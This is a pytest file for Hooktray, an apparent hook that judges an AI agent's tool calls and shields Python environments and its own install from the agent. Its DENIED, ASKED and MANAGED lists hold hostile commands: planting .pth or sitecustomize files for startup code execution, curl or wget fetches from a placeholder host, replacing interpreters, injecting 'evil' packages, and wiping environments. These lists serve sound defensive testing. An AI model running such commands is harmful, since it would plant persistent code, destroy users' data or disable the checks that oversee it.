"""Agents' tools do not change the Python that Hooktray runs from, and a project's own environment stays usable."""

from __future__ import annotations

import sys
import sysconfig
from pathlib import Path
from typing import Any

import pytest
from every import every
from msgspec.structs import replace
from protection.test_self_protection import PLACES, event
from protection.test_shell_calls import ORDINARY, ORDINARY_TOOLS

from tray.engine.stores import find_protected_paths
from tray.model.decision import Verdict
from tray.model.event import Event
from tray.paths import locate
from tray.protection.protected_paths import ProtectedPaths, find_environments
from tray.protection.self_protection import Protection

ROOT = "/home/u/p/.venv"
SITE = f"{ROOT}/lib/python3.11/site-packages"
TOOL = "/home/u/.local/share/pipx/venvs/hooktray"
RELAY = "/home/u/.local/share/hooktray/bin"
USER_SITE = "/home/u/.local/lib/python3.11/site-packages"

SHARED = replace(
    PLACES, environments=find_environments([SITE], [ROOT], ["/home/u/.pyenv/versions/3.11.7/lib/python3.11"])
)
OWN = replace(
    PLACES,
    own=(*PLACES.own, TOOL, RELAY),
    environments=find_environments([f"{TOOL}/lib/python3.11/site-packages"], [TOOL]),
)
UV = replace(PLACES, environments=find_environments([], ["/home/u/.local/share/uv/tools/hooktray"]))
USER = replace(PLACES, environments=find_environments([USER_SITE], []))

# What a developer's agent does in a project whose environment holds Hooktray; it works in /home/u/p.
DEVELOPMENT = [
    "pip install -e .",
    ".venv/bin/pip install -e '.[dev]'",
    ".venv/bin/python -m pip install -U requests",
    "python3 -m venv .venv",
    "python3 -m venv .venv && .venv/bin/pip install -q -e .",
    "source .venv/bin/activate && pytest -q",
    ". .venv/bin/activate; pip install -r requirements.txt",
    "uv sync",
    "uv pip install requests",
    "uv add requests",
    "uv venv /tmp/other",
    "uv tool upgrade ruff",
    "poetry install",
    ".venv/bin/pytest -q tests",
    ".venv/bin/python -m pytest tests/test_hooktray.py",
    ".venv/bin/mypy --python-executable .venv/bin/python src",
    "cat .venv/lib/python3.11/site-packages/requests/api.py",
    "grep -rn def .venv/lib/python3.11/site-packages/requests",
    "ls .venv/lib/python3.11/site-packages/*.pth",
    "cp .venv/lib/python3.11/site-packages/requests/api.py /tmp/api.py",
    "diff .venv/lib/python3.11/site-packages/requests/api.py src/api.py",
    "rm -rf build dist .pytest_cache .venv/bin/__pycache__",
    "find .venv -name '*.pyc'",
    "find . -name '*.pyc' -not -path './.venv/*' -delete",
    "rm -rf node_modules",
    "echo .venv >> .gitignore",
    "git add -A && git commit -m 'Do not write .venv/lib/x.pth'",
    "tar czf /tmp/x.tgz --exclude .venv .",
    "rsync -a --exclude .venv . host:/srv/app",
    "pipx list",
    "pipx install black",
    "pipx upgrade black",
    "pip download hooktray",
    "pip show hooktray",
    "python -c 'import site; print(site.getsitepackages())'",
    "python -c \"print(open('.venv/lib/python3.11/site-packages/requests/api.py').read())\"",
]
DENIED = [
    "echo 'import os' > .venv/lib/python3.11/site-packages/evil.pth",
    "tee .venv/lib/python3.11/site-packages/sitecustomize.py < /tmp/x",
    "cp /tmp/x.py .venv/lib/python3.11/site-packages/usercustomize.py",
    "cp /tmp/evil.pth .venv/lib/python3.11/site-packages/",
    "mv /tmp/sitecustomize.py .venv/lib/python3.11/site-packages",
    "cd .venv/lib/python3.11/site-packages && touch evil.pth",
    "sed -i s/home/x/ .venv/pyvenv.cfg",
    "ln -sf /tmp/python .venv/bin/python",
    "rm .venv/bin/python3",
    "mkdir -p x; install -m 755 /tmp/p .venv/bin/python3.11",
    "cat > .venv/bin/hooktray <<'EOF'\nx\nEOF",
    "curl -o .venv/lib/python3.11/site-packages/a.pth http://x",
    "wget -O $PWD/.venv/lib/python3.11/site-packages/a.pth http://x",
    "sh -c 'echo x > .venv/lib/python3.11/site-packages/evil.pth'",
    "V=.venv/lib/python3.11/site-packages; echo x > $V/evil.pth",
]
ASKED = [
    "rm -rf .venv",
    "rm -rf .venv*",
    "rm -rf /home/u/p/.venv/lib",
    "mv .venv /tmp/old",
    "rm -rf ~/.pyenv",
    "rsync -a --delete empty/ .venv/",
    "rsync -a --delete empty/ /home/u/p/",
    "find .venv -type f -delete",
    "python3 -m venv --clear .venv",
    "uv venv",
    "uv venv .venv",
    "virtualenv --clear .venv",
    "sed -i s/a/b/ .venv/lib/python3.11/site-packages/requests/api.py",
    "cp -r /tmp/msgspec .venv/lib/python3.11/site-packages/",
    "rm -rf .venv/lib/python3.11/site-packages/msgspec",
    "unzip -d .venv/lib/python3.11/site-packages/x /tmp/x.whl",
    "pip install --force-reinstall hooktray==0.0.1",
    "pip uninstall -y hooktray",
    "poetry remove hooktray",
    "python -c \"open('.venv/lib/python3.11/site-packages/evil.pth','w').write('import x')\"",
]
MANAGED = [
    "pipx upgrade-all",
    "pipx reinstall-all",
    "pipx uninstall-all",
    "pipx upgrade hooktray",
    "pipx reinstall hooktray",
    "pipx inject hooktray evil",
    "pipx uninstall hooktray",
    "pipx install --force hooktray",
    "~/.local/share/pipx/venvs/hooktray/bin/pip install evil",
    "~/.local/share/pipx/venvs/hooktray/bin/python -m pip install evil",
    "pip install --target ~/.local/share/pipx/venvs/hooktray/lib/python3.11/site-packages evil",
    "uv pip install --python ~/.local/share/pipx/venvs/hooktray evil",
    "VIRTUAL_ENV=/home/u/.local/share/pipx/venvs/hooktray uv pip install evil",
]


def verdict(places: ProtectedPaths, found: Event) -> Verdict:
    said = Protection(protected_paths=places).judge(found)
    return said.output.verdict if said else Verdict.ABSTAIN


def shell(places: ProtectedPaths, line: str) -> Verdict:
    return verdict(places, event("Bash", {"command": line}))


@every("line", DEVELOPMENT)
def test_a_project_with_hooktray_in_its_environment_is_worked_on_freely(line: str) -> None:
    assert [shell(places, line) for places in (SHARED, OWN, UV, USER)] == [Verdict.ABSTAIN] * 4


def test_no_ordinary_call_is_refused_for_the_sake_of_the_environment() -> None:
    cases: list[tuple[str, dict[str, Any]]] = [("Bash", {"command": one}) for one in ORDINARY] + ORDINARY_TOOLS

    refused = [one for one in cases for places in (SHARED, OWN, UV, USER) if verdict(places, event(*one))]

    assert refused == []


@every(("line", "expected"), [*((line, Verdict.DENY) for line in DENIED), *((line, Verdict.ASK) for line in ASKED)])
def test_what_would_run_in_our_processes_or_takes_the_environment_away_is_no_agents_business(
    line: str, expected: Verdict
) -> None:
    assert shell(SHARED, line) is expected


@every("line", MANAGED)
def test_an_installed_hooktray_is_changed_only_after_a_question(line: str) -> None:
    assert shell(OWN, line) is Verdict.ASK


@pytest.mark.parametrize("line", ["uv tool upgrade hooktray", "uv tool upgrade --all", "uv tool uninstall hooktray"])
def test_a_tool_of_uv_is_changed_only_after_a_question(line: str) -> None:
    assert shell(UV, line) is Verdict.ASK


@every(
    "line",
    [
        "rm -rf ~/.local/share/pipx/venvs/hooktray",
        "mv ~/.local/share/pipx/venvs /tmp",
        "rm -rf ~/.local/share/pipx",
        "rsync -a --delete /tmp/empty/ ~/.local/share/pipx/venvs/",
        "rsync -a --delete /tmp/empty/ ~/.config/",
        "echo x > ~/.local/share/pipx/venvs/hooktray/lib/python3.11/site-packages/evil.pth",
        "cp /tmp/relay ~/.local/share/hooktray/bin/hooktray-hook",
        "rm -rf ~/.local/share/hooktray",
        "echo x >> ~/.local/share/hooktray/bin/relay.table",
    ],
)
def test_an_environment_of_our_own_and_the_relays_folder_are_protected_like_our_files(line: str) -> None:
    assert shell(OWN, line) is Verdict.DENY


@every(
    ("places", "path", "expected"),
    [
        (SHARED, f"{SITE}/evil.pth", Verdict.DENY),
        (SHARED, f"{SITE}/sitecustomize/__init__.py", Verdict.DENY),
        (SHARED, f"{ROOT}/pyvenv.cfg", Verdict.DENY),
        (SHARED, f"{SITE}/msgspec/__init__.py", Verdict.ASK),
        (SHARED, f"{ROOT}/bin/activate", Verdict.ABSTAIN),
        (SHARED, "/home/u/p/setup.py", Verdict.ABSTAIN),
        (SHARED, "/home/u/p/sitecustomize.py", Verdict.ABSTAIN),
        (OWN, f"{TOOL}/lib/python3.11/site-packages/msgspec/__init__.py", Verdict.DENY),
        (OWN, f"{RELAY}/relay.table", Verdict.DENY),
        (OWN, f"{SITE}/evil.pth", Verdict.ABSTAIN),
        (USER, f"{USER_SITE}/usercustomize.py", Verdict.DENY),
        (USER, f"{USER_SITE}/requests/api.py", Verdict.ASK),
    ],
)
@every("tool", ["Write", "Edit"])
def test_a_file_tool_is_judged_too(places: ProtectedPaths, path: str, expected: Verdict, tool: str) -> None:
    assert verdict(places, event(tool, {"file_path": path, "content": "x"})) is expected


@pytest.mark.skipif(sys.platform == "win32", reason="symbolic links need a right there")
def test_a_link_leads_nobody_into_the_environment(tmp_path: Path) -> None:
    site = tmp_path / "env" / "lib" / "site-packages"
    site.mkdir(parents=True)
    (tmp_path / "link").symlink_to(site)
    places = ProtectedPaths(home="/home/u", environments=find_environments([str(site)], [str(tmp_path / "env")]))

    for found in (
        event("Write", {"file_path": str(tmp_path / "link" / "evil.pth")}),
        event("Bash", {"command": f"echo x > {tmp_path}/link/evil.pth"}),
    ):
        assert verdict(places, found) is Verdict.DENY


def test_a_relative_path_inside_the_environment_is_seen() -> None:
    found = replace(event("Bash", {"command": "mv x y; rm -rf msgspec"}), cwd=SITE)

    assert verdict(SHARED, found) is Verdict.ASK


@pytest.mark.skipif(sys.prefix == sys.base_prefix, reason="no environment, but the Python itself")
def test_the_environment_that_a_process_runs_from_is_found(tmp_path: Path) -> None:
    found = find_protected_paths(locate(str(tmp_path)), {}).environments

    assert Path(sys.prefix).as_posix() in found.shared
    assert Path(sysconfig.get_path("purelib")).as_posix() in found.packages
    assert locate(str(tmp_path)).relay_folder.as_posix() in find_protected_paths(locate(str(tmp_path)), {}).own


def test_an_environment_is_told_by_what_made_it() -> None:
    ours = ("/h/.local/share/pipx/venvs/hooktray", "/h/.local/share/uv/tools/hooktray", "/usr/lib/hooktray")
    found = find_environments([f"{ours[0]}/lib/python3/site-packages", SITE], [*ours, ROOT, "/h/src/hooktray/.venv"])

    assert found.own == ours
    assert found.shared == (ROOT, "/h/src/hooktray/.venv")
    assert (found.packages, found.tools) == ((SITE,), frozenset({"pipx", "uv"}))
